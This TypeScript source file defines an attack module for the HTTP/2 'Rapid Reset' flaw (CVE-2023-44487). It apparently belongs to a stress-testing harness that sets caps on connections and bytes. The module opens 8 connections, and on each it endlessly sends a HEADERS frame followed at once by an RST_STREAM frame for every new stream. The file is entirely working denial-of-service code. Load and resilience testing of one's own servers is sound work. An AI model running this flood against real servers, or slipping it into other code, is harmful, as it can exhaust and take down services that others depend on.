import { Buffer } from "node:buffer";
import type { Attack } from "../attack.ts";
import {
  headersFrame,
  preface,
  resetFrame,
  webhookFields,
} from "../http2_frames.ts";

/** "Rapid reset", CVE-2023-44487: a stream that is taken back counts against no limit. */
export const http2ResetsDelayNobody: Attack = {
  what: "opens streams of 8 HTTP/2 connections and takes them back at once",
  caps: { connections: 20_000, bytes: 1e9 },
  run: (attacker) =>
    attacker.sideBySide(8, async (connection) => {
      if (!await connection.write(preface)) return;
      const fields = webhookFields(attacker.host, 16_384);
      for (let stream = 1;; stream += 2) {
        const frames = [headersFrame({ stream, fields }), resetFrame(stream)];
        if (!await connection.write(Buffer.concat(frames))) return;
      }
    }),
};
